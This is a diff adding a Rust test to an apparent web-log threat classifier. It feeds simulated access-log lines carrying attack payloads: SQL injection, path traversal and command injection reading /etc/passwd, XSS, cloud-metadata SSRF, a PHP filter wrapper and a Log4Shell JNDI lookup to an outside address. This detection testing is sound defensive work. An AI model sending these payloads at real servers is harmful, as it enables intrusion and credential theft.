@@ -288,3 +288,35 @@ fn a_page_obeys_the_rules() {
         }
     }
 }
+
+#[test]
+fn the_gravest_classes_keep_a_sample_whatever_else_a_client_does() {
+    let mut engine = engine(BTreeMap::new());
+    // A sample of each of eight classes first, then what weighs most.
+    let lesser = [
+        "/.env",
+        "/owa/auth/x.js",
+        "/about",
+        "/shell.php",
+        "/?page=php://filter/convert.base64-encode/resource=config",
+        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
+        "/?u=http://169.254.169.254/latest/meta-data/",
+        "/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
+    ];
+    let graver = ["/?f=../../../../etc/passwd", "/?c=;cat%20/etc/passwd", "/?x=$%7Bjndi:ldap://203.0.113.1/a%7D"];
+    let lines: String = lesser
+        .iter()
+        .chain(&graver)
+        .enumerate()
+        .map(|(n, target)| format!("8.8.4.4 - - [04/Apr/2026:00:10:{n:02} +0000] \"GET {target} HTTP/1.1\" 404 1 \"-\" \"sqlmap/1.8\"\n"))
+        .collect();
+    let status = Status { up: true, caught_up: true, files: 1, ..Status::default() };
+    engine.step(NOW, Input::Lines(Batch { read_bytes: lines.len() as u64, lines: lines.into_bytes(), status, ..Batch::default() }));
+    let client = engine.query(NOW, &Query::Client("8.8.4.4".into())).unwrap();
+    let samples = client["samples"].as_array().unwrap();
+    let classes: Vec<&str> = samples.iter().filter_map(|sample| sample["class"].as_str()).collect();
+    for class in ["jndi", "rce_attempt", "path_traversal", "sql_injection"] {
+        assert!(classes.contains(&class), "{class} has none: {classes:?}");
+    }
+    assert!(samples.len() == 8 && samples.is_sorted_by(|a, b| a["at"].as_str() >= b["at"].as_str()));
+}
